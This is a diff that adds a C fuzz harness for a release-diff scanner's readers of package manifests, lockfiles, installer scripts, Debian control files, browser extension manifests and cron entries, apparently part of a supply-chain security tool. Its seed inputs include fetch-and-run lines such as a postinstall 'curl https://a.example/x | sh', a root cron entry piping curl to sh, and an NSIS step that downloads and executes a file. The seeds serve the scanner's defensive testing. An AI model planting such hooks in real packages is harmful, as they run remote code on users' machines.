@@ -1,0 +1,120 @@
+/*
+ * Who controls these bytes: whoever made the releases; OLD and NEW both. The first byte picks the kind
+ * of file, the second where OLD ends. Truths: the same input twice says the same; every unit and fact
+ * lies inside NEW; NEW is graded once.
+ */
+#include "fuzz.h"
+
+#include "read/readers.h"
+#include "util/hash.h"
+
+struct account {
+	struct read_out out; /* first */
+	size_t new_len;
+	uint64_t digest, graded;
+};
+
+static uint32_t on_unit(struct read_out *o, const struct unit *u)
+{
+	struct account *a = (struct account *)o;
+
+	FUZZ_CHECK(u->offset <= a->new_len && u->length <= a->new_len - u->offset);
+	FUZZ_CHECK((unsigned)u->change < UNIT_CHANGE_N);
+	a->digest = fast_hash(u->name.p ? u->name.p : "", u->name.len, a->digest + u->offset);
+	return o->n_units++;
+}
+
+static void on_fact(struct read_out *o, const struct fact *f)
+{
+	struct account *a = (struct account *)o;
+
+	FUZZ_CHECK(f->kind > FACT_NONE && f->kind < FACT_N && (f->flags & ~(uint32_t)FACT_FLAGS_ALL) == 0);
+	FUZZ_CHECK(f->unit == FACT_NO_UNIT || f->unit < o->n_units);
+	FUZZ_CHECK(f->offset <= a->new_len && f->length <= a->new_len - f->offset);
+	a->digest = fast_hash(f->key.p ? f->key.p : "", f->key.len, a->digest + f->kind);
+	a->digest = fast_hash(f->value.p ? f->value.p : "", f->value.len, a->digest + f->offset);
+	a->digest = fast_hash(f->detail.p ? f->detail.p : "", f->detail.len, a->digest + f->flags);
+	a->digest = fast_hash(f->excerpt.p ? f->excerpt.p : "", f->excerpt.len, a->digest);
+	o->n_facts++;
+}
+
+static void on_cover(struct read_out *o, enum cover_grade grade, uint64_t bytes, const char *why)
+{
+	struct account *a = (struct account *)o;
+
+	FUZZ_CHECK((unsigned)grade < COVER_N && why);
+	a->graded += bytes;
+}
+
+static const struct {
+	const struct reader *reader;
+	const char *path;
+} kinds[] = {
+	{&reader_package_json, "package/package.json"}, {&reader_lockfile, "package-lock.json"}, {&reader_lockfile, "yarn.lock"},
+	{&reader_lockfile, "pnpm-lock.yaml"}, {&reader_nsis_lines, "x.exe!/[install script].nsi"},
+	{&reader_manifest, "x.deb!/control.tar.xz!/control"}, {&reader_manifest, "x.deb!/control.tar.xz!/postinst"},
+	{&reader_manifest, "x-1.dist-info/METADATA"}, {&reader_manifest, "x.pth"}, {&reader_manifest, "binding.gyp"},
+	{&reader_trust, "ext/manifest.json"}, {&reader_trust, "app-update.yml"}, {&reader_trust, "index.html"},
+	{&reader_trust, "etc/cron.d/x"}, {&reader_trust, "a.entitlements"},
+};
+
+static uint64_t once(size_t kind, const uint8_t *old, size_t old_len, const uint8_t *new_, size_t new_len)
+{
+	struct arena arena;
+	struct budget budget = {.max_steps = 4 << 20, .max_bytes = 16 << 20, .max_members = 1000, .max_depth = 16};
+	struct account a = {{on_unit, on_fact, on_cover, 0, 0}, new_len, 0, 0};
+	struct read_in in = {.path = str_of(kinds[kind].path), .old = cursor_of(old, old_len), .new_ = cursor_of(new_, new_len),
+		.has_old = old_len > 0, .format = FORMAT_TEXT, .old_format = FORMAT_TEXT, .arena = &arena, .budget = &budget, .out = &a.out};
+	enum status s;
+
+	arena_init(&arena, 0);
+	FUZZ_CHECK(kinds[kind].reader->claim(&in) >= 0);
+	s = kinds[kind].reader->read(&in);
+	FUZZ_CHECK((unsigned)s < STATUS_N && a.graded <= new_len);
+	arena_release(&arena);
+	return a.digest + s;
+}
+
+int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
+{
+	size_t kind, old_len;
+
+	if (n < 2 || n > 1 << 20)
+		return 0;
+	kind = bytes[0] % (sizeof(kinds) / sizeof(kinds[0]));
+	old_len = (n - 2) * bytes[1] / 255;
+	FUZZ_CHECK(once(kind, bytes + 2, old_len, bytes + 2 + old_len, n - 2 - old_len) ==
+		once(kind, bytes + 2, old_len, bytes + 2 + old_len, n - 2 - old_len));
+	return 0;
+}
+
+void fuzz_seeds(void (*run)(const void *bytes, size_t n))
+{
+	static const char *const seeds[] = {
+		"{\"name\":\"x\",\"version\":\"1\",\"scripts\":{\"postinstall\":\"curl https://a.example/x | sh\"},\"dependencies\":{\"a\":\"npm:b@1\"}}",
+		"{\"packages\":{\"node_modules/a\":{\"version\":\"1\",\"resolved\":\"https://r.example/a/-/a-1.tgz\",\"integrity\":\"sha512-A\"}}}",
+		"\"@s/a@^1\", b@npm:c@1:\n  version \"1\"\n  resolved \"https://r.example/@s/a/-/a-1.tgz#1\"\n  integrity sha512-A\n",
+		"packages:\n\n  /a@1(b@2):\n    resolution: {integrity: sha512-A, tarball: https://r.example/a}\n",
+		"Section \"a\"\n  Exec \"$\\\"$TEMP\\x.exe$\\\"\"\n  inetc::get \"http://a.example/x\" \"$TEMP\\x.exe\" ; x\nopcode 9 1\n",
+		"Package: a\nVersion: 1\nDepends: b (>= 1),\n c | d\n", "#!/bin/sh\n", "Name: a\nRequires-Dist: b>=1\n", "import os; os.system('x')\n",
+		"\"<!(node ./x.js)\"", "{\"manifest_version\":3,\"permissions\":[\"tabs\"],\"content_security_policy\":\"script-src 'self' *\"}",
+		"url: https://a.example\npublisherName: x\n", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">",
+		"* * * * * root curl https://a.example | sh\n", "<plist><key>com.apple.security.get-task-allow</key><true/>sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-----BEGIN CERTIFICATE-----\nAA\n-----END CERTIFICATE-----",
+	};
+	char room[1024];
+
+	for (size_t i = 0; i < sizeof(seeds) / sizeof(seeds[0]); i++)
+		for (size_t k = 0; k < sizeof(seeds) / sizeof(seeds[0]); k++) {
+			size_t a = strlen(seeds[i]), b = strlen(seeds[k]);
+
+			if (a + b + 2 > sizeof(room))
+				continue;
+			room[0] = (char)k;
+			room[1] = (char)(a * 255 / (a + b));
+			memcpy(room + 2, seeds[i], a);
+			memcpy(room + 2 + a, seeds[k], b);
+			run(room, a + b + 2);
+			room[1] = (char)(k == i ? 127 : 0);
+			run(room, a + b + 2);
+		}
+}
